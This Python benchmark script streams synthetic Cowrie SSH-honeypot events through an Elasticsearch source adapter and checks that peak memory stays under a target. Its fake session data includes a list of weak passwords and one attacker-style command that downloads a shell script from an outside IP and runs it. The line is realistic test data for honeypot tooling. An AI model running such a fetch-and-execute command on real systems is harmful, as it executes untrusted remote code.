"""Benchmark: stream a window of DShield-SIEM documents through the Elasticsearch source adapter.

The Elasticsearch emulator runs as a separate process serving a synthetic ``cowrie-*`` index
whose documents are generated on demand from their ordinal (so neither process holds the data
set); this process reads the window ``[start, end)`` with :class:`ElasticsearchIntervalReader`
exactly as the DAG does (point in time, ``search_after``, mapping to events) and keeps only
counters, so its peak RSS measures the adapter's streaming. Target: peak RSS under 1.5 GB for a
1,000,000-document window.

    .venv/bin/python bench/bench_es_extract.py               # quick smoke run (20,000 documents)
    .venv/bin/python bench/bench_es_extract.py --docs 1000000

Prints one table row and writes ``bench/results/es_extract.json``.
"""

from __future__ import annotations

import argparse
import os
import resource
import subprocess
import sys
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from bench.harness import REPO, RESULTS, write_result
from coord_core.ingest.siem_mapping import SourceEnrichment
from coord_core.scenarios.siem_writer import event_to_siem_document

INDEX = "cowrie-2025.10.24-000001"
START = datetime(2025, 10, 24, tzinfo=UTC)
STEP_MS = 7
MARGIN = 500  # documents on each side of the window, outside it
TARGET_PEAK_RSS_MB = 1500.0
RESULT = RESULTS / "es_extract.json"

# One session is this sequence of Cowrie events, as the real sample's sessions look.
_SESSION_SHAPE = (
    "cowrie.session.connect",
    "cowrie.client.version",
    "cowrie.client.kex",
    "cowrie.login.failed",
    "cowrie.login.failed",
    "cowrie.login.success",
    "cowrie.command.input",
    "cowrie.session.closed",
)
_PASSWORDS = ("123456", "admin", "root", "password", "1qaz2wsx", "raspberry", "ubnt", "12345678")
_COMMANDS = (
    "uname -a",
    "cat /proc/cpuinfo",
    "cd /tmp; wget http://203.0.113.5/x.sh; sh x.sh",
    "echo Hi | cat -n",
)


def _source_ip(session: int) -> str:
    return f"{45 + session % 150}.{(session // 150) % 250}.{(session // 37500) % 250}.{1 + session % 249}"


def _enrichment(ip: str) -> SourceEnrichment:
    first = int(ip.split(".", 1)[0])
    return SourceEnrichment(
        asn=64512 + first, as_org=f"AS-{first}", country_iso_code="NL", country_name="Netherlands"
    )


def synthetic_document(ordinal: int, timestamp: str) -> dict[str, Any]:
    """The DShield-SIEM document number ``ordinal`` (deterministic; called by the emulator process)."""
    session_no, step = divmod(ordinal, len(_SESSION_SHAPE))
    eventid = _SESSION_SHAPE[step]
    src_ip = _source_ip(session_no)
    event: dict[str, Any] = {
        "eventid": eventid,
        "timestamp": timestamp,
        "session": f"{session_no:012x}",
        "src_ip": src_ip,
        "sensor": f"sensor-{session_no % 5}",
        "message": "",
    }
    if eventid == "cowrie.session.connect":
        event.update(src_port=40000 + session_no % 20000, dst_ip="172.29.0.2", dst_port=22, protocol="ssh")
        event["message"] = f"New connection: {src_ip}:{event['src_port']} (172.29.0.2:22)"
    elif eventid == "cowrie.client.version":
        event["version"] = "SSH-2.0-Go" if session_no % 3 else "SSH-2.0-libssh_0.9.6"
    elif eventid == "cowrie.client.kex":
        event.update(
            hassh="0a07365cc01fa9fc82608ba4019af499"
            if session_no % 2
            else "4e066189c3bbeec38c99b1855113733a",
            hasshAlgorithms="curve25519-sha256,ecdh-sha2-nistp256;aes128-ctr,aes256-ctr;hmac-sha2-256;none",
            kexAlgs=["curve25519-sha256", "ecdh-sha2-nistp256"],
            keyAlgs=["ssh-ed25519", "rsa-sha2-512"],
            encCS=["aes128-ctr", "aes256-ctr"],
            macCS=["hmac-sha2-256"],
            compCS=["none"],
            langCS=[""],
        )
    elif eventid.startswith("cowrie.login"):
        password = _PASSWORDS[(session_no + step) % len(_PASSWORDS)]
        outcome = "succeeded" if eventid.endswith("success") else "failed"
        event.update(username="root", password=password, message=f"login attempt [root/{password}] {outcome}")
    elif eventid == "cowrie.command.input":
        command = _COMMANDS[session_no % len(_COMMANDS)]
        event.update(input=command, message=f"CMD: {command}")
    elif eventid == "cowrie.session.closed":
        event.update(duration=f"{1 + session_no % 90}.4", message="Connection lost")
    return event_to_siem_document(event, enrichment=_enrichment).source


def _start_emulator(count: int) -> tuple[subprocess.Popen[str], str]:
    command = [
        sys.executable,
        "-m",
        "tests.emulators.elasticsearch",
        "--synthetic-index",
        INDEX,
        "--synthetic-count",
        str(count),
        "--synthetic-factory",
        "bench.bench_es_extract:synthetic_document",
        "--synthetic-start",
        START.isoformat(),
        "--synthetic-step-ms",
        str(STEP_MS),
    ]
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    process = subprocess.Popen(
        command, cwd=REPO, env=env, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True
    )
    assert process.stdout is not None
    line = process.stdout.readline().strip()
    if not line.startswith("ready "):
        process.kill()
        raise RuntimeError(f"emulator did not start: {line!r}")
    return process, line.split(" ", 1)[1]


def _peak_rss_mb_of(pid: int) -> float | None:
    try:
        for line in Path(f"/proc/{pid}/status").read_text().splitlines():
            if line.startswith("VmHWM:"):
                return int(line.split()[1]) / 1024
    except OSError:
        return None
    return None


def run(docs: int, page_size: int, slices: int) -> dict[str, Any]:
    from importlib.metadata import version

    from elasticsearch import Elasticsearch

    from coord_core.adapters.elasticsearch_source import ElasticsearchIntervalReader

    process, url = _start_emulator(docs + 2 * MARGIN)
    try:
        client = Elasticsearch(url, request_timeout=300, max_retries=0)
        start = START + timedelta(milliseconds=STEP_MS * MARGIN)
        end = start + timedelta(milliseconds=STEP_MS * docs)
        baseline_rss_mb = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
        cpu_before = time.process_time()
        began = time.perf_counter()
        reader = ElasticsearchIntervalReader(client, start, end, page_size=page_size, slices=slices)
        events = errors = 0
        for record in reader.records():
            if record.ok:
                events += 1
            else:
                errors += 1
        wall = time.perf_counter() - began
        cpu = time.process_time() - cpu_before
        peak_rss_mb = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
        emulator_rss_mb = _peak_rss_mb_of(process.pid)
        client.close()
    finally:
        if process.stdin is not None:
            process.stdin.close()
        try:
            process.wait(timeout=30)
        except subprocess.TimeoutExpired:
            process.kill()
    if events + errors != docs or errors:
        raise RuntimeError(f"expected {docs} events, read {events} events and {errors} errors")
    return {
        "docs": docs,
        "page_size": page_size,
        "slices": slices,
        "pages": reader.pages,
        "wall_s": round(wall, 2),
        "docs_per_s": round(docs / wall),
        "extract_cpu_s": round(cpu, 2),
        "peak_rss_mb": round(peak_rss_mb, 1),
        "rss_before_read_mb": round(baseline_rss_mb, 1),
        "emulator_peak_rss_mb": None if emulator_rss_mb is None else round(emulator_rss_mb, 1),
        "target_peak_rss_mb": TARGET_PEAK_RSS_MB,
        "passed": peak_rss_mb < TARGET_PEAK_RSS_MB,
        "lineage_document_count": reader.lineage().document_count,
        "elasticsearch_client": version("elasticsearch"),
        "command": " ".join(["bench/bench_es_extract.py", f"--docs {docs}", f"--page-size {page_size}"])
        + (f" --slices {slices}" if slices > 1 else ""),
        "note": "emulator in a separate process on the same machine; wall time includes its work",
    }


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n", 1)[0])
    parser.add_argument(
        "--docs", type=int, default=20_000, help="documents in the window (1000000 for the full run)"
    )
    parser.add_argument("--page-size", type=int, default=5000)
    parser.add_argument("--slices", type=int, default=1)
    parser.add_argument("--out", type=Path, default=RESULT)
    args = parser.parse_args(argv)
    result = run(args.docs, args.page_size, args.slices)
    write_result("es_extract", result, args.out)
    print("| benchmark  |      docs | wall s | docs/s | peak RSS MB | target MB | pass |")
    verdict = "yes" if result["passed"] else "NO"
    print(
        f"| es_extract | {result['docs']:>9} | {result['wall_s']:>6} | {result['docs_per_s']:>6} "
        f"| {result['peak_rss_mb']:>11} | {TARGET_PEAK_RSS_MB:>9.0f} | {verdict:>4} |"
    )
    return 0 if result["passed"] else 1


if __name__ == "__main__":
    raise SystemExit(main())
